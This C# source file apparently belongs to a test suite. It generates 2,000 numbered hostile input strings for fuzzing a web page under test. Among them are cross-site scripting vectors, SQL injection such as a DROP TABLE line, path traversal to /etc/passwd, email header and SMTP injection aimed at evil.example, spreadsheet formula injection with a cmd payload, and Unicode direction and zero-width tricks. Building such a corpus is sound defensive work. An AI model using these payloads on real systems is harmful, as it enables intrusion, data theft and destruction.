using System.Text;

namespace ProofDesk.HostileText;

/// <param name="Number">1 to 2,000; it stands in the text after "pdx", so that whatever comes of it can be traced</param>
public sealed record HostileString(int Number, string Kind, string Text);

/// <summary>
/// 2,000 strings that try to be something else than text: 145 thoughts in 22 kinds, each turned in several ways. Made from our
/// own list, the same at every run. What runs script calls pdx(NUMBER), which a page under test has and which rings a bell.
/// </summary>
public static class HostileStrings
{
    public const int Count = 2000;

    public static IReadOnlyList<HostileString> All => Made.Value;

    public static IEnumerable<string> Kinds => Thoughts.Select(t => t.Kind).Distinct();

    /// <summary>So many, spread over all kinds.</summary>
    public static IReadOnlyList<HostileString> Sample(int count)
    {
        var byKind = All.GroupBy(s => s.Kind).Select(g => g.ToList()).ToList();
        return
        [
            .. Enumerable
                .Range(0, count)
                .Select(i =>
                {
                    var kind = byKind[i % byKind.Count];
                    // Steps that share no factor with the turns, so that a sample meets most of them.
                    return kind[(i / byKind.Count * 29 + i * 7) % kind.Count];
                }),
        ];
    }

    private static readonly Lazy<List<HostileString>> Made = new(Make);

    private static readonly (string Kind, string Text)[] Thoughts =
    [
        .. Kind(
            "quotes",
            "\" pdx§=\"1",
            "' pdx§='1",
            "` pdx§=`1",
            "\" autofocus onfocus=pdx(§) x=\"",
            "' onmouseover='pdx(§)",
            "\\\" pdx§ \\'",
            "“pdx§” ‘pdx§’ «pdx§»",
            "\"\"\"pdx§'''"
        ),
        .. Kind(
            "elements",
            "<script>pdx(§)</script>",
            "<pdx§>",
            "<b>pdx§</b>",
            "<h1 pdx§=1>",
            "<a href=\"javascript:pdx(§)\">pdx§</a>",
            "<form action=//pdx§.example><button>",
            "<base href=//pdx§.example/>",
            "<meta http-equiv=refresh content=\"0;url=javascript:pdx(§)\">",
            "<iframe srcdoc=\"<script>parent.pdx(§)</script>\"></iframe>",
            "<object data=javascript:pdx(§)>",
            "<template><pdx§></template>",
            "<scr<script>ipt>pdx(§)</scr</script>ipt>",
            "<noscript><p title=\"</noscript><img src=x onerror=pdx(§)>\">"
        ),
        .. Kind(
            "handlers",
            "<img src=x onerror=pdx(§)>",
            "<body onload=pdx(§)>",
            "<input autofocus onfocus=pdx(§)>",
            "<details open ontoggle=pdx(§)>",
            "<video><source onerror=pdx(§)>",
            "<style onload=pdx(§)></style>",
            "<p style=animation-name:x onanimationstart=pdx(§)>",
            "<img/src=x/onerror=pdx(§)//",
            "<button popovertarget=x>pdx§</button><p popover id=x onbeforetoggle=pdx(§)>"
        ),
        .. Kind(
            "drawings",
            "<svg onload=pdx(§)>",
            "<svg><script>pdx(§)</script></svg>",
            "<svg><animate onbegin=pdx(§) attributeName=x dur=1s>",
            "<svg><a xlink:href=\"javascript:pdx(§)\"><text>pdx§</text></a></svg>",
            "<svg><foreignObject><script>pdx(§)</script>",
            "<math><mtext><table><mglyph><style><img src=x onerror=pdx(§)>",
            "<svg><use href=\"data:image/svg+xml,pdx§\"/>",
            "<?xml version=\"1.0\"?><!DOCTYPE p [<!ENTITY e \"pdx§\">]><p>&e;</p>"
        ),
        .. Kind(
            "addresses",
            "javascript:pdx(§)",
            "JaVaScRiPt:pdx(§)",
            "java\tscript:pdx(§)",
            "data:text/html,<script>pdx(§)</script>",
            "data:text/html;base64,PHNjcmlwdD5wZHgoMSk8L3NjcmlwdD4=#pdx§",
            "vbscript:pdx(§)",
            "//pdx§.example/",
            "\\\\pdx§.example\\share",
            "https:pdx§.example",
            "blob:pdx§",
            "file:///etc/passwd?pdx§",
            "http://127.0.0.1:1/pdx§"
        ),
        .. Kind(
            "templates",
            "{{pdx(§)}}",
            "${pdx(§)}",
            "<%= pdx(§) %>",
            "@(pdx(§))",
            "@{ pdx(§); }",
            "#{pdx(§)}",
            "{%pdx§%}",
            "[[pdx§]]",
            "{0}{1}{pdx§}",
            "%s%n%d pdx§",
            "@Html.Raw(\"<pdx§>\")"
        ),
        .. Kind(
            "entities",
            "&lt;script&gt;pdx(§)&lt;/script&gt;",
            "&amp;lt;pdx§&amp;gt;",
            "&#60;pdx§&#62;",
            "&#x3c;pdx§&#x3e;",
            "&#x26;lt;pdx§>",
            "%3Cscript%3Epdx(§)%3C/script%3E",
            "\\u003cscript\\u003epdx(§)\\u003c/script\\u003e",
            "\\x3cpdx§\\x3e",
            "+ADw-script+AD4-pdx(§)+ADw-/script+AD4-",
            "&quot; onfocus=pdx(§) &quot;",
            "&ltpdx§&gt"
        ),
        .. Kind(
            "direction",
            "\u202epdx§\u202c",
            "\u202dpdx§ gpj.exe",
            "\u2066pdx§",
            "\u2067<pdx§>\u2069",
            "pdx§\u200f\u200e",
            "\u061cpdx§",
            "שלום pdx§ עולם",
            "مرحبا pdx§"
        ),
        .. Kind(
            "zero width",
            "p\u200bdx pdx§",
            "\u200cpdx§\u200d",
            "\ufeffpdx§",
            "\u2060pdx§\u2060",
            "pdx§\u00ad",
            "\u115fpdx§\u3164",
            "<\u200bscript>pdx(§)</script>",
            "pdx§\u034f"
        ),
        .. Kind(
            "combining",
            "pdx§" + new string('\u0301', 60),
            "Z\u0351\u036b\u0343\u036a pdx§",
            "\u0301pdx§",
            "pdx§ \ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67",
            "pdx§ \ud83c\udff3\ufe0f\u200d\ud83c\udf08",
            "\u0e4f\u0e47\u0e47\u0e47\u0e47pdx§"
        ),
        .. Kind(
            "surrogates",
            "pdx§\ud800",
            "\udc00pdx§",
            "pdx\ud83d§",
            "\udfff\ud800pdx§",
            "<\udbffpdx§>",
            "\ud800\ud800pdx§"
        ),
        .. Kind(
            "controls",
            "pdx§\0",
            "\0<pdx§>",
            "pdx§\u0001\u0002",
            "pdx§\u001b[31m",
            "pdx§\u0008\u0008",
            "pdx§\u007f",
            "pdx§\u0085x",
            "pdx§\u2028x\u2029",
            "pdx§\u000b\u000c",
            "<scr\0ipt>pdx(§)</scr\0ipt>",
            "pdx§\uffff\ufffe",
            "pdx§\u0007"
        ),
        .. Kind(
            "long",
            "pdx§" + new string('a', 5000),
            "pdx§ " + string.Concat(Enumerable.Repeat("<b>", 900)),
            "pdx§" + new string('&', 3000),
            new string(' ', 300) + "pdx§",
            "pdx§" + string.Concat(Enumerable.Repeat("\ud83d\udc55", 1200)),
            "pdx§ " + string.Concat(Enumerable.Repeat("lorem ", 900))
        ),
        .. Kind(
            "headers",
            "pdx§\r\nBcc: pdx§@evil.example",
            "pdx§\r\n\r\n<script>pdx(§)</script>",
            "pdx§\nSet-Cookie: pdx§=1",
            "pdx§\rX-Pdx: §",
            "pdx§%0d%0aLocation: //pdx§.example",
            "=?utf-8?b?cGR4?= pdx§",
            "=?utf-8?q?=0D=0ABcc:_pdx§=40evil.example?=",
            "pdx§\r\n.\r\nMAIL FROM:<pdx§@evil.example>",
            "pdx§\u560a\u560dX-Pdx: §"
        ),
        .. Kind(
            "queries",
            "' OR 1=1 -- pdx§",
            "'; DROP TABLE Orders; -- pdx§",
            "\" OR \"\"=\" pdx§",
            "1; SELECT pg_sleep(9) -- pdx§",
            "' UNION SELECT 1,2,3 -- pdx§",
            "%' AND 1=0 pdx§",
            "_%[a-z] pdx§",
            "\\'; pdx§",
            "$$pdx§$$",
            "/*pdx§*/"
        ),
        .. Kind(
            "paths",
            "../../../../etc/passwd pdx§",
            "..\\..\\windows\\win.ini pdx§",
            "/etc/passwd\0pdx§",
            "pdx§/../../x",
            "CON pdx§",
            "~/pdx§",
            "....//....//pdx§",
            "%2e%2e%2fpdx§",
            "pdx§.png/../../x.html",
            "file:pdx§",
            "pdx§:stream"
        ),
        .. Kind(
            "formulas",
            "=pdx§()",
            "+pdx§",
            "-2+3+cmd|' /C pdx§'!A0",
            "@SUM(pdx§)",
            "\t=pdx§",
            "\r=pdx§",
            "=HYPERLINK(\"http://pdx§.example\",\"x\")",
            "＝pdx§()",
            "\"=pdx§()\"",
            "|pdx§",
            "%pdx§"
        ),
        .. Kind(
            "mail",
            "\"pdx§\"@evil.example",
            "pdx§@evil.example>, <other@evil.example",
            "pdx§@evil.example\nRCPT TO:<x@evil.example>",
            "pdx§@[127.0.0.1]",
            "pdx§(comment)@evil.example",
            "pdx§@evil.example, pdx@evil.example",
            "@evil.example:pdx§@x.example",
            "pdx§@xn--80ak6aa92e.example",
            "pdx§+tag@evil.example",
            "pdx§@\u0435vil.example",
            "\"<script>pdx(§)</script>\"@evil.example"
        ),
        .. Kind(
            "json",
            "\",\"pdx§\":\"1",
            "\\\",\\\"pdx§\\\":1",
            "\\u0022pdx§",
            "{\"pdx§\":1}",
            "[\"pdx§\"]",
            "pdx§\\",
            "\\ud800pdx§",
            "__proto__ pdx§",
            "</script><script>pdx(§)</script>",
            "*/pdx(§)/*",
            "null pdx§",
            "1e999 pdx§"
        ),
        .. Kind(
            "likeness",
            "＜script＞pdx(§)＜/script＞",
            "‹pdx§›",
            "pdx§ \u212a\u017f",
            "ﬁpdx§",
            "pdx§ \u2024\u2024/",
            "e\u0301 \u00e9 pdx§",
            "p\u0501x pdx§",
            "ⓟⓓⓧ pdx§",
            "pdx§ \u1e9e\u0130\u0131",
            "\uff02 pdx§=\uff021"
        ),
        .. Kind(
            "endings",
            "</textarea><script>pdx(§)</script>",
            "</title><script>pdx(§)</script>",
            "--><script>pdx(§)</script><!--",
            "]]><script>pdx(§)</script>",
            "</style><script>pdx(§)</script>",
            "</option></select><img src=x onerror=pdx(§)>",
            "</p></main></body></html><pdx§>",
            "<!--pdx§",
            "<![CDATA[<pdx§>]]>",
            "</svg><pdx§>",
            "/><pdx§/>",
            "<plaintext>pdx§"
        ),
        .. Kind(
            "styles",
            "}*{background:url(//pdx§.example)}",
            "expression(pdx(§))",
            "<link rel=stylesheet href=//pdx§.example>",
            "<style>@import '//pdx§.example';</style>",
            "x;position:fixed;inset:0;pdx§",
            "<p style=\"background:url(//pdx§.example)\">",
            "-moz-binding:url(pdx§)"
        ),
    ];

    // The first leaves a thought as it is. None adds what would make a harmless one refused.
    private static readonly Func<string, string>[] Turns =
    [
        s => s,
        s => "\">" + s,
        s => "'>" + s,
        s => s.Replace("script", "ScRiPt", StringComparison.Ordinal).Replace("on", "oN", StringComparison.Ordinal),
        s => s + " " + s,
        s => s.Replace("<", "&lt;", StringComparison.Ordinal),
        s => s.Replace("&", "&amp;", StringComparison.Ordinal).Replace("<", "&amp;lt;", StringComparison.Ordinal),
        s => "Kim " + s + " Reed",
        s => s.Replace(" ", "/", StringComparison.Ordinal),
        s => s.Replace("=", " = ", StringComparison.Ordinal),
        s => "\u00a0" + s + "\u2003",
        s => s.Replace("<", "%3C", StringComparison.Ordinal).Replace("\"", "%22", StringComparison.Ordinal),
        s => "a\n" + s,
        s => s.Replace("<", "\\u003c", StringComparison.Ordinal),
        s => "`-alert(1)-`" + s,
        s => HasNoForm(s) ? "x" + s : "é" + s.Normalize(NormalizationForm.FormD),
    ];

    private static IEnumerable<(string Kind, string Text)> Kind(string kind, params string[] texts) =>
        texts.Select(text => (kind, text));

    private static List<HostileString> Make()
    {
        var all = new List<HostileString>();
        var met = new HashSet<string>(StringComparer.Ordinal);
        for (var turn = 0; turn < 64 && all.Count < Count; turn++)
        {
            foreach (var (kind, text) in Thoughts)
            {
                if (all.Count == Count)
                    break;
                var turned = Turned(turn, text);
                if (!met.Add(turned))
                    continue;
                var number = all.Count + 1;
                all.Add(new(number, kind, turned.Replace("§", $"{number}", StringComparison.Ordinal)));
            }
        }
        return all;
    }

    // Sixteen turns, then two of them one after the other.
    private static string Turned(int turn, string text)
    {
        var once = Turns[turn % Turns.Length](text);
        return turn < Turns.Length ? once : Turns[(turn / Turns.Length + turn * 3) % Turns.Length](once);
    }

    // Halves of characters and codes that are none have no normal form.
    private static bool HasNoForm(string text)
    {
        if (text.Contains('\ufffe') || text.Contains('\uffff'))
            return true;
        for (var i = 0; i < text.Length; i++)
        {
            if (char.IsHighSurrogate(text[i]) && i + 1 < text.Length && char.IsLowSurrogate(text[i + 1]))
                i++;
            else if (char.IsSurrogate(text[i]))
                return true;
        }
        return false;
    }
}
